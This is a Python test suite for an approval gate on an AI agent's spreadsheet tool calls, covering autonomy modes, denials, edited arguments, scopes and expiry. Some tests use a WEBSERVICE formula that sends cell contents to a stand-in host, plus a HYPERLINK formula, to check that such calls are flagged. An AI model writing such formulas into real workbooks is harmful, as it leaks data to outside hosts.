"""Approvals: which calls wait for one, who answers, and what the answer does (design, sections 3.3 and 3.6)."""

import asyncio
from collections.abc import AsyncIterator, Mapping, Sequence

import msgspec
import pytest

from hub.backplane.base import Backplane
from hub.chat import events
from hub.chat.parts import Approval, Autonomy, Json, ToolCallPart
from hub.errors import CallError
from hub.providers.base import ToolCallEnd, ToolCallStart
from hub.runs.answer.resolution import Resolution
from hub.runs.answer.wall_time import WallTime
from hub.runs.approving import ApprovalAnswer, ApprovalWish
from hub.runs.asking import Wish
from hub.runs.chats import SettingsWish
from hub.runs.limits import RunLimits
from tests.runs import invariants
from tests.runs.approving import LIMITS, Desk, Workbook, applies, desk, node_with, writes
from tests.runs.node import Node, until
from tests.runs.scripted import Act, call, end

NETWORK = '=WEBSERVICE("http://x.test/"&A1)'
YES = ApprovalWish(approve=True)


@pytest.fixture
def workbook() -> Workbook:
    return Workbook()


@pytest.fixture
async def hub(backplane: Backplane, workbook: Workbook) -> AsyncIterator[Node]:
    async with node_with(backplane, workbook).running() as node:
        yield node


async def ended(desk: Desk) -> None:
    """The run has ended, everything is valid, and the next message works."""
    await desk.node.idle()
    page = await desk.node.chats.history("ann", "ses", before=None, limit=50)
    invariants.check(desk.recorder.entries, page.messages)
    session = await desk.node.chats.get("ann", "ses")
    assert not session.running


# ------------------------------------------------------------------------------------------- what needs approval


@pytest.mark.parametrize(
    ("autonomy", "tool", "waits"),
    [
        ("ask", "look", True),
        ("ask", "write_range", True),
        ("agent-default", "look", False),
        ("agent-default", "write_range", True),
        ("agent-yolo", "write_range", False),
    ],
)
async def test_autonomy_decides(hub: Node, workbook: Workbook, autonomy: Autonomy, tool: str, waits: bool) -> None:
    script = writes() if tool == "write_range" else call("c1", "look", range="A1")
    one = await desk(hub, workbook, script, autonomy=autonomy)
    asked = await hub.send("ask")
    if waits:
        needed = await one.until_needed()
        assert needed.reason == (
            "In the mode ask, every tool call needs approval."
            if autonomy == "ask"
            else "In the mode agent-default, tools that write need approval."
        )
        assert needed.expires_at - needed.time == 600_000
        assert workbook.written == []
        answer = await one.answer()
        assert answer.accepted
        assert answer.resolution == Resolution(approve=True, by="ann", scope="call")
    await ended(one)
    assert one.outcomes == {"c1": "success"}
    types = [kind for kind in one.recorder.types(asked.run_id) if kind.startswith(("approval", "tool_c"))]
    assert types == ["approval_needed", "approval_resolved", "tool_complete"][0 if waits else 2 :]
    assert one.recorder.done()[0].outcome == "completed"


NAMES: list[Act] = [
    ToolCallStart("c1", "create_named_range"),
    ToolCallEnd("c1", {"name": "Rate", "range": NETWORK}),
]


@pytest.mark.parametrize(
    "script",
    [applies(NETWORK), writes(value=NETWORK), NAMES],
    ids=["apply_formula", "write_range", "create_named_range"],
)
async def test_what_reaches_the_network_is_asked_about_in_every_mode(
    hub: Node, workbook: Workbook, script: list[Act]
) -> None:
    one = await desk(hub, workbook, script, autonomy="agent-yolo")
    await hub.send("ask")
    assert "WEBSERVICE" in (await one.until_needed()).reason
    assert workbook.written == []
    await one.answer()
    await ended(one)
    assert len(workbook.written) == 1


async def test_a_check_that_breaks_fails_its_call_only(
    hub: Node, workbook: Workbook, caplog: pytest.LogCaptureFixture
) -> None:
    tool = workbook.tools.get("look")
    assert tool is not None

    def check(arguments: Mapping[str, Json]) -> None:
        raise RuntimeError(str(arguments))

    workbook.tools.add(msgspec.structs.replace(tool, spec=msgspec.structs.replace(tool.spec, name="odd"), check=check))
    one = await desk(hub, workbook, call("c1", "odd", range="A1"), autonomy="ask")
    await hub.send("ask")
    await ended(one)
    assert one.outcomes == {"c1": "failed"}
    assert one.recorder.done()[0].outcome == "completed"
    assert "could not be checked" in caplog.text


async def test_nobody_is_asked_about_a_call_that_cannot_run(hub: Node, workbook: Workbook) -> None:
    script = [*call("c1", "write_range", range="A1"), *call("c2", "unknown", range="A1")]
    one = await desk(hub, workbook, script, autonomy="ask")
    await hub.send("ask")
    await ended(one)
    assert one.needed == []
    assert one.outcomes == {"c1": "failed", "c2": "failed"}


# ------------------------------------------------------------------------------------------------ what it does


async def test_a_denied_call_does_not_run_and_the_model_is_told_why(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes())
    await hub.send("ask")
    await one.until_needed()
    answer = await one.answer(wish=ApprovalWish(approve=False, reason="Not this sheet.", scope="session"))
    assert answer.resolution == Resolution(approve=False, by="ann", scope="call", reason="Not this sheet.")
    await ended(one)
    assert workbook.written == []
    told = hub.provider.streams[1].request.messages[-1].parts[0]
    assert isinstance(told, ToolCallPart)
    assert (told.state, told.error) == ("denied", "Not this sheet.")
    assert told.approval == Approval(approve=False, by="ann", scope="call")


async def test_edited_arguments_replace_the_models(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes())
    await hub.send("ask")
    await one.until_needed()
    edited = {"range": "B2", "values": [["=SUM(A1:A9)"]]}
    await one.answer(wish=ApprovalWish(approve=True, arguments=edited))
    await ended(one)
    assert workbook.written == [edited]
    assert [event.arguments for event in one.resolved] == [edited]
    told = hub.provider.streams[1].request.messages[-1].parts[0]
    assert isinstance(told, ToolCallPart) and told.arguments == edited


@pytest.mark.parametrize("autonomy", ["agent-default", "agent-yolo"])
async def test_a_network_formula_slipped_into_edited_arguments_is_asked_about_again(
    hub: Node, workbook: Workbook, autonomy: Autonomy
) -> None:
    # In agent-yolo only what has a finding is asked about at all.
    one = await desk(hub, workbook, applies("=SUM(A1:A3)" if autonomy != "agent-yolo" else NETWORK), autonomy=autonomy)
    await hub.send("ask")
    await one.until_needed()
    slipped = {"range": "A1", "formula": '=HYPERLINK("http://x.test")'}
    answer = await one.answer(wish=ApprovalWish(approve=True, arguments=slipped, scope="session"))
    assert answer.accepted
    again = await one.until_needed(2)
    assert (again.call_id, again.attempt, again.arguments) == ("c1", 2, slipped)
    assert again.reason.startswith("The edited arguments need an approval of their own. $.formula: HYPERLINK")
    assert workbook.written == []
    assert one.resolved == []
    with pytest.raises(CallError, match="invalid_arguments"):
        await one.answer(wish=ApprovalWish(approve=True, attempt=3))
    late = await one.answer(wish=ApprovalWish(approve=True, attempt=1))
    assert not late.accepted  # it saw other arguments
    assert workbook.written == []
    assert (await one.answer(wish=ApprovalWish(approve=True, attempt=2, scope="session"))).accepted
    await ended(one)
    assert workbook.written == [slipped]
    assert [event.scope for event in one.resolved] == ["call"]


async def test_edited_arguments_that_break_the_schema_are_not_taken(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes(value=1))
    await hub.send("ask")
    await one.until_needed()
    await one.answer(wish=ApprovalWish(approve=True, arguments={"range": "A1"}))
    again = await one.until_needed(2)
    assert again.reason == (
        "The edited arguments were not taken. Wrong arguments: values is required. The ones before still stand."
    )
    assert again.arguments == {"range": "A1", "values": [[1]]}
    await one.answer()
    await ended(one)
    assert workbook.written == [{"range": "A1", "values": [[1]]}]


async def test_arguments_sent_back_as_they_came_are_no_edit(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, applies(NETWORK))
    await hub.send("ask")
    needed = await one.until_needed()
    await one.answer(wish=ApprovalWish(approve=True, arguments=needed.arguments))
    await ended(one)
    assert len(one.needed) == len(workbook.written) == 1


# ------------------------------------------------------------------------------------------------------- scopes


async def test_a_scope_of_call_holds_for_that_call(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes("c1"), writes("c2"))
    for number, text in enumerate(("first", "second"), 1):
        await hub.send(text)
        await one.until_needed(number)
        await one.answer(f"c{number}")
        await ended(one)
    assert len(workbook.written) == 2


async def test_a_scope_of_run_holds_for_the_rest_of_the_run_and_for_what_waits(hub: Node, workbook: Workbook) -> None:
    script = [*writes("c1"), *writes("c2"), *applies(NETWORK, "c3")]
    one = await desk(hub, workbook, script, writes("c5"))
    hub.provider.scripts.insert(1, [*writes("c4"), end("tool_calls")])
    await hub.send("first")
    await one.until_needed(3)
    await one.answer("c1", ApprovalWish(approve=True, scope="run"))
    await until(lambda: one.outcomes == {"c1": "success", "c2": "success"})
    await one.answer("c3", ApprovalWish(approve=True, scope="run"))  # a finding's own: allows nothing else
    await ended(one)
    assert one.outcomes == dict.fromkeys(("c1", "c2", "c3", "c4"), "success")
    assert {event.call_id: event.scope for event in one.resolved} == {"c1": "run", "c2": "call", "c3": "call"}
    await hub.send("second")
    assert (await one.until_needed(4)).call_id == "c5"
    await one.answer("c5")
    await ended(one)


async def test_a_scope_of_session_holds_on_every_node_for_that_tool(backplane: Backplane, workbook: Workbook) -> None:
    async with node_with(backplane, workbook).running() as first:
        one = await desk(first, workbook, writes("c1"))
        await first.send("first")
        await one.until_needed()
        await one.answer(wish=ApprovalWish(approve=True, scope="session"))
        await ended(one)
    async with node_with(backplane, workbook, owner="node_2").running() as second:
        script = [*writes("c2"), *applies("=A2", "c3"), *writes("c4", NETWORK)]
        two = await desk(second, workbook, script)
        await second.send("second")
        await until(lambda: two.outcomes == {"c2": "success"} and len(two.needed) == 2)
        assert {event.call_id for event in two.needed} == {"c3", "c4"}  # another tool, and a finding
        for call_id in ("c3", "c4"):
            await two.answer(call_id, ApprovalWish(approve=False))
        await second.idle()
        assert len(two.recorder.done()) == 1


async def test_what_was_granted_is_gone_when_the_autonomy_is_lowered(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes("c1"), writes("c2"))
    await hub.send("first")
    await one.until_needed()
    await one.answer(wish=ApprovalWish(approve=True, scope="session"))
    await ended(one)
    await hub.chats.update("ann", "ses", SettingsWish(autonomy="ask"))
    await hub.send("second")
    await one.until_needed(2)
    await one.answer("c2")
    await ended(one)


async def test_what_was_granted_is_gone_with_who_granted_it(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes("c1"), writes("c2"))
    await hub.chats.sharing.share("ann", "ses", "bob", "editor")
    await hub.send("first")
    await one.until_needed()
    await one.answer(wish=ApprovalWish(approve=True, scope="session"), user="bob")
    await ended(one)
    await hub.chats.sharing.unshare("ann", "ses", "bob")
    await hub.send("second")
    await one.until_needed(2)
    await one.answer("c2")
    await ended(one)


# ------------------------------------------------------------------------------------------------- who is first


async def test_the_first_answer_wins_and_the_others_learn_it(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes())
    await hub.chats.sharing.share("ann", "ses", "bob", "editor")
    await hub.send("ask")
    await one.until_needed()
    answers = await asyncio.gather(
        one.answer(wish=ApprovalWish(approve=True)),
        one.answer(wish=ApprovalWish(approve=False, reason="No."), user="bob"),
    )
    assert sorted(answer.accepted for answer in answers) == [False, True]
    assert answers[0].resolution == answers[1].resolution
    winner = answers[0].resolution
    await ended(one)
    assert one.outcomes == {"c1": "success" if winner.approve else "denied"}
    # Long after it is over they learn the same, and whoever won may say it again.
    again = [
        await one.answer(wish=ApprovalWish(approve=True)),
        await one.answer(wish=ApprovalWish(approve=False, reason="No."), user="bob"),
    ]
    assert again == list(answers)


async def test_who_may_answer(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes())
    await hub.chats.sharing.share("ann", "ses", "vic", "viewer")
    await hub.send("ask")
    await one.until_needed()
    for user in ("vic", "eve"):
        with pytest.raises(CallError, match="forbidden"):
            await one.answer(user=user)
    await one.answer()
    await ended(one)


async def test_a_call_that_waits_for_nothing_is_closed(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, call("c1", "look", range="A1"), writes("c2"))
    await hub.send("first")
    await ended(one)
    with pytest.raises(CallError, match=r"call_closed.* waits for no approval"):
        await one.answer("c1")
    with pytest.raises(CallError, match=r"call_closed.* no such call"):
        await one.answer("c9")
    await hub.send("second")
    await one.until_needed()
    await hub.stop()
    await ended(one)
    with pytest.raises(CallError, match=r"call_closed.* ended before anybody answered"):
        await one.answer("c2")
    assert one.outcomes["c2"] == "interrupted"
    assert workbook.written == []


async def test_an_approval_expires(backplane: Backplane, workbook: Workbook) -> None:
    limits = RunLimits(linger_s=0.0, retry_read_s=0.001, approval_s=0.05)
    async with node_with(backplane, workbook, limits=limits).running() as node:
        one = await desk(node, workbook, writes())
        await node.send("ask")
        await until(lambda: one.outcomes == {"c1": "denied"})
        await ended(one)
        assert one.recorder.of(events.ToolComplete)[0].error == "Nobody approved it within 0.05 s."
        assert one.recorder.done()[0].outcome == "completed"
        with pytest.raises(CallError, match="call_closed"):
            await one.answer()


async def test_waiting_for_people_takes_no_wall_time(backplane: Backplane, workbook: Workbook) -> None:
    """One approval takes longer than the whole answer may."""
    limits = RunLimits(linger_s=0.0, retry_read_s=0.001, wall_time_s=1.5, approval_s=1.6)
    async with node_with(backplane, workbook, limits=limits).running() as node:
        one = await desk(node, workbook, writes("c1"))
        await node.send("ask")
        await ended(one)
        assert one.outcomes == {"c1": "denied"}
        assert one.recorder.done()[0].outcome == "completed"


async def test_the_wall_time_goes_on_when_nobody_is_waited_for() -> None:
    wall_time = WallTime(0.02)
    with pytest.raises(TimeoutError):
        async with wall_time.start():
            with wall_time.standing_still(), wall_time.standing_still():
                await asyncio.sleep(0.05)
            assert not wall_time.is_over
            await asyncio.Event().wait()
    assert wall_time.is_over


async def test_a_snapshot_shows_what_waits(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes())
    await hub.send("ask")
    needed = await one.until_needed()
    async with hub.watch() as watching:
        await until(lambda: bool(watching.sink.items))
        run = msgspec.json.decode(watching.sink.items[0])["run"]
    assert [approval["callId"] for approval in run["pendingApprovals"]] == [needed.call_id]
    assert run["openCalls"][0]["state"] == "approval"
    await one.answer()
    await ended(one)


async def test_calls_whose_provider_counts_anew_are_told_apart(hub: Node, workbook: Workbook) -> None:
    """Or the first answer to `call_0` would stand for all later ones."""
    one = await desk(hub, workbook, writes("call_0"), writes("call_0"))
    await hub.send("first")
    await one.until_needed()
    await one.answer("call_0")
    await ended(one)
    await hub.send("second")
    again = await one.until_needed(2)
    assert again.call_id == "call_0_2"
    await one.answer("call_0_2", ApprovalWish(approve=False))
    await ended(one)
    assert one.outcomes == {"call_0": "success", "call_0_2": "denied"}


# ----------------------------------------------------------------------------------------------------- autonomy


async def test_an_editor_cannot_raise_autonomy(hub: Node, workbook: Workbook) -> None:
    await desk(hub, workbook, autonomy="ask")
    await hub.chats.sharing.share("ann", "ses", "bob", "editor")
    raises: tuple[Autonomy, ...] = ("agent-default", "agent-yolo")
    for raised in raises:
        with pytest.raises(CallError, match="Only the owner"):
            await hub.chats.update("bob", "ses", SettingsWish(autonomy=raised))
        with pytest.raises(CallError, match="Only the owner"):
            await hub.send("ask", wish=Wish(autonomy=raised), user="bob")
        session, _ = await hub.chats.open("bob", "ses", SettingsWish(autonomy=raised))
        assert session.autonomy == "ask"
    assert (await hub.chats.get("ann", "ses")).autonomy == "ask"


async def test_an_owner_may_raise_it_for_one_run(hub: Node, workbook: Workbook) -> None:
    one = await desk(hub, workbook, writes("c1"), autonomy="ask")
    await hub.send("ask", wish=Wish(autonomy="agent-yolo"))
    await ended(one)
    assert one.needed == [] and len(workbook.written) == 1


async def test_autonomy_that_is_lowered_holds_for_what_was_asked_before(hub: Node, workbook: Workbook) -> None:
    """An editor's ask was within the session's mode when it came; when its call is made the mode is lower."""
    one = await desk(hub, workbook, writes("c1"), autonomy="agent-yolo")
    await hub.chats.sharing.share("ann", "ses", "bob", "editor")
    gate = asyncio.Event()
    hub.provider.scripts[0] = [gate, *hub.provider.scripts[0]]
    await hub.send("ask", wish=Wish(autonomy="agent-yolo"), user="bob")
    await until(lambda: hub.provider.open_streams == 1)
    await hub.chats.update("ann", "ses", SettingsWish(autonomy="agent-default"))
    gate.set()
    await one.until_needed()
    await one.answer()
    await ended(one)


async def test_a_raise_loses_against_one_who_lowers_at_the_same_time(hub: Node, workbook: Workbook) -> None:
    """What an editor may set is decided by the session as it is replaced, not as it was read."""
    await desk(hub, workbook, autonomy="agent-yolo")
    await hub.chats.sharing.share("ann", "ses", "bob", "editor")
    results = await asyncio.gather(
        hub.chats.update("ann", "ses", SettingsWish(autonomy="ask")),
        hub.chats.update("bob", "ses", SettingsWish(autonomy="agent-default")),
        return_exceptions=True,
    )
    assert (await hub.chats.get("ann", "ses")).autonomy == "ask"
    assert not isinstance(results[0], BaseException)


# -------------------------------------------------------------------------------------------------- many nodes


async def test_another_node_answers(backplane: Backplane, workbook: Workbook) -> None:
    async with (
        node_with(backplane, workbook).running() as here,
        node_with(backplane, workbook, owner="node_2").running() as there,
    ):
        one = await desk(here, workbook, writes())
        await here.send("ask")
        await one.until_needed()
        answers: Sequence[ApprovalAnswer] = await asyncio.gather(
            one.answer(on=there), one.answer(wish=ApprovalWish(approve=False), on=here), one.answer(on=there)
        )
        assert all(answer.resolution == answers[0].resolution for answer in answers)
        await ended(one)
        assert one.outcomes == {"c1": "success" if answers[0].resolution.approve else "denied"}
        await there.idle()


async def test_a_call_whose_node_dies_while_it_waits_is_interrupted(backplane: Backplane, workbook: Workbook) -> None:
    limits = RunLimits(linger_s=0.0, retry_read_s=0.001, scan_s=0.01)
    async with node_with(backplane, workbook, owner="node_2", limits=limits).running() as there:
        async with node_with(backplane, workbook, limits=LIMITS).running() as here:
            one = await desk(here, workbook, writes())
            await here.send("ask")
            await one.until_needed()
        await until(lambda: bool(one.recorder.done()))
        await there.idle()
        assert one.outcomes == {"c1": "interrupted"}
        assert one.recorder.done()[0].outcome == "interrupted"
        with pytest.raises(CallError, match="call_closed"):
            await one.answer(on=there)
        await there.idle()
        assert workbook.written == []
